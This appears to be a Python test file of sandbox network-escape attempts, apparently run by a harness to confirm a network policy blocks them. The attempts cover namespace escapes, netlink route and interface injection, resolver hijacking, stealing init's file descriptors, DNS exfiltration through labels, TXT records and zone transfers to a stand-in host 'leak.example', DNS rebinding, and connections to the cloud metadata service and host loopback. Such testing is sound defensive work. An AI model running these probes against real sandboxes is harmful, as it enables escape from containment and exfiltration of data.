"""Attempts around what decides: namespaces, programs, other sockets, names, special places."""

# ruff: noqa: F403, F405 - what is imported is beside this file inside the sandbox

from __future__ import annotations

import os
import socket
import struct

from network_kit import *  # type: ignore[import-not-found]

# --- around the hooks -------------------------------------------------------------------------


@attempt
def connect_by_io_uring(v4: str, v6: str) -> object:
    return call("io_uring_setup", 4, bytes(120))


@attempt
def a_network_namespace_of_its_own(v4: str, v6: str) -> object:
    return apart(lambda: call("unshare", NEWNET))


@attempt
def a_user_and_network_namespace(v4: str, v6: str) -> object:
    return apart(lambda: call("unshare", NEWUSER | NEWNET))


@attempt
def the_namespace_of_init(v4: str, v6: str) -> object:
    return apart(lambda: call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), NEWNET))


@attempt
def a_route_of_its_own(v4: str, v6: str) -> object:
    made = socket.socket(16, RAW, 0)
    body = struct.pack("=BBBBBBBBI", INET, 32, 0, 0, 254, 4, 0, 1, 0)
    body += struct.pack("=HH4s", 8, 1, socket.inet_aton(v4)) + struct.pack("=HHI", 8, 4, 1)
    head = struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0)
    made.send(head + body)
    (code,) = struct.unpack_from("=i", made.recv(4096), 16)
    return code and errno.errorcode[-code]


@attempt
def an_interface_of_its_own(v4: str, v6: str) -> object:
    made = socket.socket(16, RAW, 0)
    kind = struct.pack("=HH8s", 12, 1, b"dummy")
    info = struct.pack("=HH", 4 + len(kind), 18) + kind
    body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + info
    made.send(struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
    (code,) = struct.unpack_from("=i", made.recv(4096), 16)
    return code and errno.errorcode[-code]


@attempt
def closing_sockets_of_the_resolver(v4: str, v6: str) -> object:
    made = socket.socket(16, RAW, 4)
    identity = (
        struct.pack("!HH4s12x16x", 53, 0, socket.inet_aton("127.0.0.53")) + bytes(4) + b"\xff" * 8
    )
    body = struct.pack("=BBBxI", INET, 17, 0, 0xFFFFFFFF) + identity
    made.send(struct.pack("=IHHII", 16 + len(body), 21, 0x5, 1, 0) + body)
    (code,) = struct.unpack_from("=i", made.recv(4096), 16)
    return code and errno.errorcode[-code]


@attempt
def taking_the_place_of_the_resolver(v4: str, v6: str) -> object:
    made = sock(INET, DGRAM)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    return made.bind(("127.0.0.53", 53))


@attempt
def the_programs_by_bpf(v4: str, v6: str) -> object:
    return call("bpf", 11, bytes(12), 12)  # BPF_PROG_GET_NEXT_ID


@attempt
def the_pins_of_the_programs(v4: str, v6: str) -> object:
    done = mount("bpf", "/tmp/bpf", "bpf")
    return done if done != "ok" else peek("/tmp/bpf")


@attempt
def the_cgroup_of_another(v4: str, v6: str) -> object:
    return mount("cgroup2", "/tmp/cg", "cgroup2")


@attempt
def a_socket_of_init(v4: str, v6: str) -> object:
    pid = call("pidfd_open", 1, 0)
    return call("pidfd_getfd", pid, 3, 0)


@attempt
def the_descriptors_of_init(v4: str, v6: str) -> object:
    return os.open("/proc/1/fd/0", os.O_RDONLY)


@attempt
def a_socket_passed_by_a_friend(v4: str, v6: str) -> object:
    """The socket of another process of the sandbox is as bound as one's own."""
    left, right = socket.socketpair()
    pid = os.fork()
    if pid == 0:
        try:
            made = sock(INET, STREAM)
            socket.send_fds(left, [b"x"], [made.fileno()])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    left.close()
    _, fds, _, _ = socket.recv_fds(right, 1, 1)
    return socket.socket(fileno=fds[0]).connect((v4, 80))


@attempt
def a_listener_that_answers(v4: str, v6: str) -> object:
    """What comes in from an address that is closed is not answered."""
    server = sock(INET, STREAM)
    server.bind(("0.0.0.0", 8101))
    server.listen()
    server.settimeout(0.3)
    client, _ = server.accept()
    return client.send(b"x")


# --- names ------------------------------------------------------------------------------------


def configured() -> str:
    with open("/etc/resolv.conf") as file:  # noqa: PTH123
        return next(line.split()[1] for line in file if line.startswith("nameserver"))


def ask(name: str, rdtype: int = 1, server: str = "", stream: bool = False) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = (
        struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
        + labels
        + b"\0"
        + struct.pack("!HH", rdtype, 1)
    )
    made = sock(INET, STREAM if stream else DGRAM)
    made.settimeout(3)
    made.connect((server or configured(), 53))
    made.send(struct.pack("!H", len(query)) + query if stream else query)
    return made.recv(4096)[2 if stream else 0 :]


def said(reply: bytes) -> str:
    count = struct.unpack_from("!H", reply, 6)[0]
    return "ok" if count else f"rcode {reply[3] & 15}"


@attempt
def data_in_the_labels_of_a_name(v4: str, v6: str) -> object:
    return said(ask(f"{'61' * 20}.leak.example"))


@attempt
def data_in_a_text_record(v4: str, v6: str) -> object:
    return said(ask("leak.example", 16))


@attempt
def data_by_tcp(v4: str, v6: str) -> object:
    return said(ask("secret.leak.example", stream=True))


@attempt
def a_text_record_of_an_allowed_name(v4: str, v6: str) -> object:
    return said(ask("good.example", 16))


@attempt
def the_host_s_resolver(v4: str, v6: str) -> object:
    return said(ask("direct.leak.example", server="192.0.2.53"))


@attempt
def any_other_resolver(v4: str, v6: str) -> object:
    return said(ask("direct.leak.example", server=v4))


@attempt
def a_resolver_by_tcp(v4: str, v6: str) -> object:
    return said(ask("direct.leak.example", server=v4, stream=True))


@attempt
def a_zone_transfer(v4: str, v6: str) -> object:
    return said(ask("zone.leak.example", 252, stream=True))


@attempt
def rebinding_to_the_metadata_service(v4: str, v6: str) -> object:
    reply = said(ask("rebind.example"))
    sock(INET, STREAM).connect(("169.254.169.254", 80))
    return reply


@attempt
def rebinding_to_a_private_address(v4: str, v6: str) -> object:
    reply = said(ask("inside.example"))
    sock(INET, STREAM).connect(("10.99.0.1", 80))
    return reply


# --- places that no policy opens --------------------------------------------------------------


@attempt
def the_metadata_service(v4: str, v6: str) -> object:
    return sock(INET, STREAM).connect(("169.254.169.254", 80))


@attempt
def the_gateway(v4: str, v6: str) -> object:
    return sock(INET, STREAM).connect(("169.254.1.1", 80))


@attempt
def an_address_of_the_host(v4: str, v6: str) -> object:
    return sock(INET, STREAM).connect(("198.51.100.2", 8102))


@attempt
def loopback_of_the_host(v4: str, v6: str) -> object:
    return sock(INET, STREAM).connect(("127.0.0.1", 8102))


@attempt
def a_translated_address(v4: str, v6: str) -> object:
    packed = socket.inet_aton(v4).hex()
    return sock(INET6, STREAM).connect((f"64:ff9b::{packed[:4]}:{packed[4:]}", 80))


@attempt
def a_6to4_address(v4: str, v6: str) -> object:
    packed = socket.inet_aton(v4).hex()
    return sock(INET6, STREAM).connect((f"2002:{packed[:4]}:{packed[4:]}::1", 80))
